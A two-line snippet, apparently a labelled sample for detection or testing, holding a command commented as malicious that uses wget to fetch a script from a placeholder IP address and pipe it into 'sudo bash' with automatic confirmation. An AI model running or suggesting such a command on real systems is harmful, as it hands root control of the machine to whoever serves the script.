# malicious: download and run as root
wget -qO- http://203.0.113.50/setup.sh | sudo bash -s -- --yes
